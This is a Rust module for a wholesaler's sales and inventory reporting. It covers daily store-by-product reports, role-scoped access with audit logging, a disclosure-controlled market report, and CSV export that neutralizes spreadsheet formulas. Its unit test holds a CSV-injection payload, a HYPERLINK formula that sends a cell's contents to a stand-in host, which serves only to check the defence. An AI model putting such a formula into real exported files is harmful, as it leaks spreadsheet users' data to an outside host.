//! The wholesaler's daily sales-and-inventory report: per store × product, the day's sales
//! (units, weight, revenue, taxes, refunds) and closing stock, in the store's local day.

use crate::access::{Action, Principal, Scope};
use crate::audit::AuditEvent;
use crate::db::Val;
use crate::{Hq, HqError};
use serde::Serialize;
use std::collections::BTreeMap;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DailyRow {
    pub date: String,
    pub retailer_id: String,
    pub store_id: String,
    pub store_name: String,
    pub product_id: String,
    pub sku: String,
    pub gtin: String,
    pub product_name: String,
    pub units_sold: i64,
    pub units_returned: i64,
    pub weight_sold_mg: i64,
    pub net_sales_minor: i64,
    pub tax_minor: i64,
    pub refunds_minor: i64,
    pub closing_units: i64,
}

pub const CSV_HEADER: &str = "date,retailer_id,store_id,store_name,product_id,sku,gtin,product_name,units_sold,units_returned,weight_sold_mg,net_sales_minor,tax_minor,refunds_minor,closing_units";

/// `header`, then one line per row in field order (quoted only where needed). Rows are plain
/// structs of strings and integers: serializing them cannot fail. A text cell a spreadsheet
/// would run as a formula (starting with `=`, `+`, `-`, `@`, tab or carriage return, and not a
/// plain number) gets a leading `'` (OWASP's CSV injection advice); figures are untouched.
pub(crate) fn rows_to_csv<T: Serialize>(header: &str, rows: &[T]) -> String {
    let mut w = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
    for r in rows {
        let _ = w.serialize(r);
    }
    let raw = w.into_inner().unwrap_or_default();
    let mut out = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
    for record in csv::ReaderBuilder::new().has_headers(false).from_reader(raw.as_slice()).records().flatten() {
        let _ = out.write_record(record.iter().map(neutralized));
    }
    let body = out.into_inner().map(|b| String::from_utf8(b).unwrap_or_default()).unwrap_or_default();
    format!("{header}\n{body}")
}

fn neutralized(cell: &str) -> String {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<f64>().is_err() {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

pub fn to_csv(rows: &[DailyRow]) -> String {
    rows_to_csv(CSV_HEADER, rows)
}

impl Hq {
    /// Every store × product with sales on `date` or stock at its close. `retailer` limits the
    /// report to one retailer.
    pub fn report_daily(&self, date: &str, retailer: Option<&str>) -> Result<Vec<DailyRow>, HqError> {
        if chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").is_err() {
            return Err(HqError::Invalid { code: "invalid_date", message: format!("'{date}' is not a date (YYYY-MM-DD)") });
        }
        let r = retailer.unwrap_or("");
        let (products, sales, closing) = self.db.snapshot(|tx| {
            let products = tx.query(
                "SELECT p.retailer_id, p.store_id, h.name, p.product_id, p.sku, p.gtin, p.name FROM products p
                 JOIN store_heads h ON h.retailer_id = p.retailer_id AND h.store_id = p.store_id
                 WHERE ($1 = '' OR p.retailer_id = $1)",
                &[r.into()],
            )?;
            let sales = tx.query(
                "SELECT retailer_id, store_id, product_id, units_sold, units_returned, weight_mg, net_minor, tax_minor, refund_minor
                 FROM daily_sales WHERE day = $1 AND ($2 = '' OR retailer_id = $2)",
                &[date.into(), r.into()],
            )?;
            // Closing stock: the last change on or before the day.
            let closing = tx.query(
                "SELECT d.retailer_id, d.store_id, d.product_id, d.closing FROM daily_stock d
                 JOIN (SELECT retailer_id, store_id, product_id, MAX(day) AS day FROM daily_stock
                       WHERE day <= $1 AND ($2 = '' OR retailer_id = $2) GROUP BY retailer_id, store_id, product_id) m
                   ON m.retailer_id = d.retailer_id AND m.store_id = d.store_id AND m.product_id = d.product_id AND m.day = d.day",
                &[date.into(), r.into()],
            )?;
            Ok::<_, HqError>((products, sales, closing))
        })?;
        let key = |row: &[Val]| (row[0].show(), row[1].show(), row[2].show());
        let sales: BTreeMap<_, _> = sales.iter().map(|s| (key(s), s)).collect();
        let closing: BTreeMap<_, _> = closing.iter().map(|c| (key(c), c[3].i().unwrap_or(0))).collect();
        let mut rows: Vec<DailyRow> = products
            .iter()
            .filter_map(|p| {
                let k = (p[0].show(), p[1].show(), p[3].show());
                let s = sales.get(&k);
                let c = closing.get(&k).copied();
                if s.is_none() && c.unwrap_or(0) == 0 {
                    return None;
                }
                let n = |i: usize| s.and_then(|s| s[i].i()).unwrap_or(0);
                Some(DailyRow {
                    date: date.to_string(),
                    retailer_id: k.0.clone(),
                    store_id: k.1.clone(),
                    store_name: p[2].show(),
                    product_id: k.2.clone(),
                    sku: p[4].show(),
                    gtin: p[5].t().unwrap_or("").to_string(),
                    product_name: p[6].show(),
                    units_sold: n(3),
                    units_returned: n(4),
                    weight_sold_mg: n(5),
                    net_sales_minor: n(6),
                    tax_minor: n(7),
                    refunds_minor: n(8),
                    closing_units: c.unwrap_or(0),
                })
            })
            .collect();
        rows.sort_by(|a, b| (&a.retailer_id, &a.store_name, &a.store_id, &a.sku).cmp(&(&b.retailer_id, &b.store_name, &b.store_id, &b.sku)));
        Ok(rows)
    }
}

/// Net sales per store and local day, for the dashboard.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DaySales {
    pub retailer_id: String,
    pub store_id: String,
    pub store_name: String,
    pub day: String,
    pub units_sold: i64,
    pub net_sales_minor: i64,
}

impl Hq {
    /// Daily sales per store for the `days` most recent days that have any.
    pub fn sales_by_day(&self, days: usize) -> Result<Vec<DaySales>, HqError> {
        let rows = self.db.snapshot(|tx| {
            tx.query(
                "SELECT d.retailer_id, d.store_id, h.name, d.day, CAST(SUM(d.units_sold) AS BIGINT), CAST(SUM(d.net_minor) AS BIGINT)
                 FROM daily_sales d JOIN store_heads h ON h.retailer_id = d.retailer_id AND h.store_id = d.store_id
                 GROUP BY d.retailer_id, d.store_id, h.name, d.day ORDER BY d.day DESC, h.name LIMIT $1",
                &[((days * 50) as u64).into()],
            )
        })?;
        let mut out: Vec<DaySales> = rows
            .into_iter()
            .map(|r| DaySales {
                retailer_id: r[0].show(),
                store_id: r[1].show(),
                store_name: r[2].show(),
                day: r[3].show(),
                units_sold: r[4].i().unwrap_or(0),
                net_sales_minor: r[5].i().unwrap_or(0),
            })
            .collect();
        let mut seen: Vec<String> = out.iter().map(|d| d.day.clone()).collect();
        seen.dedup();
        seen.truncate(days);
        out.retain(|d| seen.contains(&d.day));
        out.reverse();
        Ok(out)
    }
}

/// Sales of one product class (the regulator's category) over a span of days, all stores.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CategorySales {
    pub class: String,
    pub units_sold: i64,
    pub net_sales_minor: i64,
}

impl Hq {
    /// Net sales per product class on local days from `since` (YYYY-MM-DD) on, largest first;
    /// all stores, or one retailer's.
    pub fn sales_by_category(&self, since: &str, retailer: Option<&str>) -> Result<Vec<CategorySales>, HqError> {
        let rows = self.db.snapshot(|tx| {
            tx.query(
                "SELECT p.class, CAST(SUM(d.units_sold) AS BIGINT), CAST(SUM(d.net_minor) AS BIGINT)
                 FROM daily_sales d JOIN products p ON p.retailer_id = d.retailer_id AND p.store_id = d.store_id AND p.product_id = d.product_id
                 WHERE d.day >= $1 AND ($2 = '' OR d.retailer_id = $2) GROUP BY p.class",
                &[since.into(), retailer.unwrap_or("").into()],
            )
        })?;
        let mut out: Vec<CategorySales> =
            rows.into_iter().map(|r| CategorySales { class: r[0].show(), units_sold: r[1].i().unwrap_or(0), net_sales_minor: r[2].i().unwrap_or(0) }).collect();
        out.sort_by(|a, b| b.net_sales_minor.cmp(&a.net_sales_minor).then_with(|| a.class.cmp(&b.class)));
        Ok(out)
    }
}

/// What replaces a store's id and name in rows an analyst may only see per retailer.
pub const ALL_STORES: &str = "(all stores)";

/// Keeps the rows `scope` allows; under `Aggregated`, the stores of a retailer that does not
/// share store-level sales are merged into one row per retailer and key.
fn scoped<T: Clone>(
    rows: Vec<T>,
    scope: &Scope,
    retailer: impl Fn(&T) -> &str,
    merge_key: impl Fn(&T) -> String,
    fold: impl Fn(&mut T, &T),
    hide: impl Fn(&mut T),
) -> Vec<T> {
    match scope {
        Scope::All => rows,
        Scope::Retailer(r) => rows.into_iter().filter(|row| retailer(row) == r).collect(),
        Scope::Aggregated { store_level } => {
            let mut out: Vec<T> = Vec::new();
            let mut merged: BTreeMap<String, usize> = BTreeMap::new();
            for row in rows {
                if store_level.iter().any(|s| s == retailer(&row)) {
                    out.push(row);
                    continue;
                }
                let key = format!("{}\u{1f}{}", retailer(&row), merge_key(&row));
                match merged.get(&key) {
                    Some(&i) => fold(&mut out[i], &row),
                    None => {
                        let mut first = row.clone();
                        hide(&mut first);
                        merged.insert(key, out.len());
                        out.push(first);
                    }
                }
            }
            out
        }
    }
}

impl Hq {
    /// The daily report as `p` may see it, audited with its row count before it is returned.
    pub fn report_daily_for(&self, p: &Principal, date: &str, retailer: Option<&str>) -> Result<Vec<DailyRow>, HqError> {
        let (rows, scope) = self.daily_scoped(p, date, retailer)?;
        self.audit(AuditEvent {
            scope: scope_code(&scope),
            user_id: &p.user_id,
            user_name: &p.name,
            kind: "read_sales",
            retailer_id: retailer.unwrap_or(""),
            store_id: "",
            what: format!("daily report {date} ({})", scope_label(&scope)),
            rows: rows.len() as u64,
        })?;
        Ok(rows)
    }

    /// The daily report cut to what `p` may see, and that scope; the caller audits the read.
    pub(crate) fn daily_scoped(&self, p: &Principal, date: &str, retailer: Option<&str>) -> Result<(Vec<DailyRow>, Scope), HqError> {
        let scope = self.require(p, &Action::ReadSales { retailer })?;
        let rows = scoped(
            self.report_daily(date, retailer)?,
            &scope,
            |r| &r.retailer_id,
            |r| r.sku.clone(),
            |a, b| {
                a.units_sold += b.units_sold;
                a.units_returned += b.units_returned;
                a.weight_sold_mg += b.weight_sold_mg;
                a.net_sales_minor += b.net_sales_minor;
                a.tax_minor += b.tax_minor;
                a.refunds_minor += b.refunds_minor;
                a.closing_units += b.closing_units;
            },
            |r| {
                r.store_id = ALL_STORES.into();
                r.store_name = ALL_STORES.into();
                r.product_id = String::new();
            },
        );
        Ok((rows, scope))
    }

    /// Daily sales per store (or per retailer, under an analyst's scope), audited.
    pub fn sales_by_day_for(&self, p: &Principal, days: usize) -> Result<Vec<DaySales>, HqError> {
        let scope = self.require(p, &Action::ReadSales { retailer: None })?;
        let rows = scoped(
            self.sales_by_day(days)?,
            &scope,
            |r| &r.retailer_id,
            |r| r.day.clone(),
            |a, b| {
                a.units_sold += b.units_sold;
                a.net_sales_minor += b.net_sales_minor;
            },
            |r| {
                r.store_id = ALL_STORES.into();
                r.store_name = format!("{} {ALL_STORES}", r.retailer_id);
            },
        );
        self.audit(AuditEvent {
            scope: scope_code(&scope),
            user_id: &p.user_id,
            user_name: &p.name,
            kind: "read_sales",
            retailer_id: "",
            store_id: "",
            what: format!("sales by day, {days} days ({})", scope_label(&scope)),
            rows: rows.len() as u64,
        })?;
        Ok(rows)
    }

    /// Sales per category across every store `p` may read (no store-level figure).
    pub fn sales_by_category_for(&self, p: &Principal, since: &str) -> Result<Vec<CategorySales>, HqError> {
        let scope = self.require(p, &Action::ReadSales { retailer: None })?;
        let retailer = match &scope {
            Scope::Retailer(r) => Some(r.as_str()),
            _ => None,
        };
        self.sales_by_category(since, retailer)
    }

    /// Stores' sync state as `p` may see it.
    pub fn status_for(&self, p: &Principal) -> Result<Vec<crate::StoreStatus>, HqError> {
        let scope = self.require(p, &Action::ViewStatus)?;
        Ok(match scope {
            Scope::Retailer(r) => self.status()?.into_iter().filter(|s| s.retailer_id == r).collect(),
            _ => self.status()?,
        })
    }
}

/// The machine-readable form of a scope kept in audit records (see [`crate::audit::AuditRecord::scope`]).
pub(crate) fn scope_code(scope: &Scope) -> String {
    match scope {
        Scope::All => "all".into(),
        Scope::Retailer(r) => format!("retailer:{r}"),
        Scope::Aggregated { store_level } if store_level.is_empty() => "per-retailer".into(),
        Scope::Aggregated { store_level } => format!("store-level:{}", store_level.join(",")),
    }
}

fn scope_label(scope: &Scope) -> String {
    match scope {
        Scope::All => "all stores".into(),
        Scope::Retailer(r) => format!("retailer {r}"),
        Scope::Aggregated { store_level } if store_level.is_empty() => "per retailer".into(),
        Scope::Aggregated { store_level } => format!("store level for {}, per retailer otherwise", store_level.join(", ")),
    }
}

/// One published cell of the market report; `net_sales_minor` is `None` where suppressed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct MarketCell {
    pub region: String,
    pub category: String,
    pub month: String,
    pub net_sales_minor: Option<i64>,
}

impl Hq {
    /// Net sales by region (jurisdiction) × category × month, months `from`..=`to` (YYYY-MM),
    /// with every margin, under disclosure control (see [`crate::sdc`]). Audited.
    pub fn market_report(&self, p: &Principal, from: &str, to: &str, rules: &crate::sdc::Rules) -> Result<Vec<MarketCell>, HqError> {
        let month_ok = |m: &str| chrono::NaiveDate::parse_from_str(&format!("{m}-01"), "%Y-%m-%d").is_ok() && m.len() == 7;
        if !month_ok(from) || !month_ok(to) || from > to {
            return Err(HqError::Invalid { code: "invalid_month", message: format!("months are YYYY-MM with from ≤ to ('{from}', '{to}')") });
        }
        if rules.min_stores < 3 || !(1..=50).contains(&rules.p_percent) {
            return Err(HqError::Invalid { code: "invalid_rules", message: "at least 3 stores per cell and p between 1 and 50 %".into() });
        }
        self.require(p, &Action::ReadMarket)?;
        let rows = self.db.snapshot(|tx| {
            tx.query(
                "SELECT h.jurisdiction, pr.class, SUBSTR(d.day, 1, 7), d.retailer_id || '/' || d.store_id, CAST(SUM(d.net_minor) AS BIGINT)
                 FROM daily_sales d
                 JOIN store_heads h ON h.retailer_id = d.retailer_id AND h.store_id = d.store_id
                 JOIN products pr ON pr.retailer_id = d.retailer_id AND pr.store_id = d.store_id AND pr.product_id = d.product_id
                 WHERE SUBSTR(d.day, 1, 7) >= $1 AND SUBSTR(d.day, 1, 7) <= $2
                 GROUP BY h.jurisdiction, pr.class, SUBSTR(d.day, 1, 7), d.retailer_id || '/' || d.store_id",
                &[from.into(), to.into()],
            )
        })?;
        let mut base = crate::sdc::Contributions::new();
        for r in rows {
            let v = r[4].i().unwrap_or(0).max(0);
            base.entry([r[0].show(), r[1].show(), r[2].show()]).or_default().insert(r[3].show(), v);
        }
        let cells: Vec<MarketCell> = crate::sdc::protect(&base, rules)
            .into_iter()
            .map(|c| {
                let [region, category, month] = c.key;
                MarketCell { region, category, month, net_sales_minor: c.value }
            })
            .collect();
        self.audit(AuditEvent {
            scope: "market".into(),
            user_id: &p.user_id,
            user_name: &p.name,
            kind: "read_market",
            retailer_id: "",
            store_id: "",
            what: format!("market report {from}..{to}"),
            rows: cells.len() as u64,
        })?;
        Ok(cells)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_only_what_needs_it_and_reads_back_the_same() {
        let row = DailyRow {
            date: "2026-11-22".into(),
            retailer_id: "acme".into(),
            store_id: "s1".into(),
            store_name: "Queen St, \"East\"".into(),
            product_id: "p1".into(),
            sku: "FLW-1".into(),
            gtin: String::new(),
            product_name: "Blue Dream 1g".into(),
            units_sold: 2,
            units_returned: 0,
            weight_sold_mg: 2000,
            net_sales_minor: 2598,
            tax_minor: 338,
            refunds_minor: 0,
            closing_units: 18,
        };
        let text = to_csv(std::slice::from_ref(&row));
        assert_eq!(text.lines().nth(1), Some("2026-11-22,acme,s1,\"Queen St, \"\"East\"\"\",p1,FLW-1,,Blue Dream 1g,2,0,2000,2598,338,0,18"));
        assert_eq!(to_csv(&[]), format!("{CSV_HEADER}\n"), "the header even with no rows");

        // A name that a spreadsheet would run as a formula is neutralized; numbers are not.
        let mut evil = row.clone();
        evil.product_name = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")".into();
        evil.store_name = "@SUM(1+1)".into();
        evil.sku = "-2+3".into();
        evil.units_returned = -1;
        let text = to_csv(&[evil]);
        let mut r = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[7], "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")");
        assert_eq!((&rec[3], &rec[5], &rec[9]), ("'@SUM(1+1)", "'-2+3", "-1"));
    }
}
